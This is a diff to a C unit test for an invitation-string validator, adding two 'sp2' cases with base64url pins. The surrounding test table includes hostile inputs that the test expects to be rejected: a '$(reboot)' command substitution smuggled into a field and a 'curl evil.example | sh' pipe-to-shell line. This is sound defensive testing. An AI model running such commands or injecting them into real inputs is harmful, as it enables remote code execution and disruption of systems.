@@ -240,6 +240,8 @@ test_invitation(void **state)
 	} cases[] = {
 	    {"sp1:gw:8443:" HEX64 ":CODE1", true},
 	    {"sp1:gw:8443:" OTHER_PIN ":CODE1", false},
+	    {"sp2:gw:8443:ABEiM0RVZneImaq7zN3u_w:CODE1", true},
+	    {"sp2:gw:8443:_-7dzLuqmYh3ZlVEMyIRAA:CODE1", false},
 	    {"sp1:gw:8443:" HEX64 ":$(reboot)", false},
 	    {"curl evil.example | sh", false},
 	};
